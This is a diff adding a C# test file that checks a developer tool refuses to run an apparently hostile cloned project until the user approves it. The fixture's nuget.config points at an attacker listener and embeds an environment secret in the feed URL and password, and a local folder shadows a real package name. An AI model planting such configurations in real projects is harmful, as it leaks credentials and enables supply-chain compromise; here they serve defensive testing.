@@ -1,0 +1,96 @@
+using System.Text.Json.Nodes;
+using Machine.Tool.Tests.Commands;
+using Machine.Tool.Tests.Packages;
+
+namespace Machine.Attacks.Tests.Repository;
+
+/// <summary>The whole tool, as it is typed in a cloned repository: what it says, and that nothing happened (the issue's acceptance).</summary>
+public sealed class StartOfAHostileProject : IAsyncLifetime
+{
+    private const int Unavailable = 125;
+
+    private readonly ToolProcess tool = new();
+    private Listener attacker = null!;
+
+    public async ValueTask InitializeAsync()
+    {
+        attacker = await Listener.StartAsync();
+        tool.Write("project/Machinefile", "tools: { dotnet: [\"evil-tool@1.0.0\"] }\nsdk: none\n");
+        tool.Write("project/nuget.config", $"""
+            <configuration>
+              <packageSources>
+                <clear />
+                <add key="evil" value="{attacker.Address}%MACHINE_ATTACK_TOKEN%/index.json" allowInsecureConnections="true" />
+                <add key="here" value="./evil-packages" />
+              </packageSources>
+              <packageSourceCredentials><evil><add key="Username" value="u" /><add key="ClearTextPassword" value="%MACHINE_ATTACK_TOKEN%" /></evil></packageSourceCredentials>
+            </configuration>
+            """);
+        tool.Write("project/packages.lock.json", """{ "version": 1, "dependencies": { "net10.0": { "Evil": { "type": "Direct", "resolved": "1.0.0" } } } }""");
+        PackageFolder.Add(Path.Combine(tool.Project, "evil-packages"), "xunit", "2.999.0", content: "evil");
+    }
+
+    public ValueTask DisposeAsync()
+    {
+        tool.Dispose();
+        return attacker.DisposeAsync();
+    }
+
+    [Fact]
+    public async Task Plan_says_in_plain_words_what_it_asks_for()
+    {
+        var plan = await RunAsync("plan");
+
+        plan.ExitCode.ShouldBe(0, plan.ToString());
+        plan.Output.ShouldContain($"! nuget.config: packages come from {attacker.Address}%MACHINE_ATTACK_TOKEN%/index.json (as written: no variable of this host is put in), unprotected; the guest can send it any name");
+        plan.Output.ShouldContain("! nuget.config: allows plain http to ");
+        plan.Output.ShouldContain("! nuget.config: reads the folder ./evil-packages (");
+        plan.Output.ShouldContain("  nuget.config: the password for evil is a variable or encrypted, and is not used");
+        plan.Output.ShouldNotContain("hunter2");
+        attacker.Connections.ShouldBeEmpty();
+    }
+
+    [Theory]
+    [InlineData("start")]
+    [InlineData("exec", "--", "true")]
+    [InlineData("dotnet", "build")]
+    [InlineData("dotnet", "restore")]
+    [InlineData("shell")]
+    public async Task Nothing_happens_before_a_yes(params string[] command)
+    {
+        var refused = await RunAsync(command);
+
+        refused.ExitCode.ShouldBe(Unavailable, refused.ToString());
+        refused.Error.ShouldContain("reads the folder ./evil-packages");
+        refused.Error.ShouldContain("start --approve");
+        attacker.Connections.ShouldBeEmpty();
+        Directory.Exists(Path.Combine(tool.Home, "packages")).ShouldBeFalse("nothing was fetched");
+        Directory.Exists(Path.Combine(tool.Home, "machines")).ShouldBeFalse("no machine was begun");
+    }
+
+    [Fact]
+    public async Task A_yes_to_the_file_as_it_was_is_none_to_the_file_as_it_is()
+    {
+        var hash = JsonNode.Parse((await RunAsync("plan", "--json")).Output)!["hash"]!.GetValue<string>();
+        tool.Write("project/nuget.config", $"<configuration><packageSources><add key=\"evil\" value=\"{attacker.Index}\" allowInsecureConnections=\"true\"/></packageSources></configuration>");
+
+        var refused = await tool.RunAsync(new Dictionary<string, string> { ["MACHINE_APPROVE"] = hash }, "start");
+
+        refused.ExitCode.ShouldBe(Unavailable, refused.ToString());
+        attacker.Connections.ShouldBeEmpty();
+    }
+
+    [Fact]
+    public async Task A_project_that_names_what_the_user_has_is_not_asked()
+    {
+        tool.Write("home-of-user/.nuget/NuGet/NuGet.Config", "<configuration><packageSources><add key=\"mine\" value=\"https://feed.example/v3/index.json\"/></packageSources></configuration>");
+        tool.Write("project/nuget.config", "<configuration><packageSources><clear/><add key=\"theirs\" value=\"https://feed.example/v3/index.json\"/></packageSources></configuration>");
+
+        var plan = await tool.RunAsync(new Dictionary<string, string> { ["DOTNET_CLI_HOME"] = Path.Combine(Path.GetDirectoryName(tool.Home)!, "home-of-user") }, "plan", "--json");
+
+        JsonNode.Parse(plan.Output)!["widens"]!.GetValue<bool>().ShouldBeFalse(plan.ToString());
+    }
+
+    private Task<ToolOutcome> RunAsync(params string[] arguments) =>
+        tool.RunAsync(new Dictionary<string, string> { ["MACHINE_ATTACK_TOKEN"] = "hunter2" }, arguments);
+}
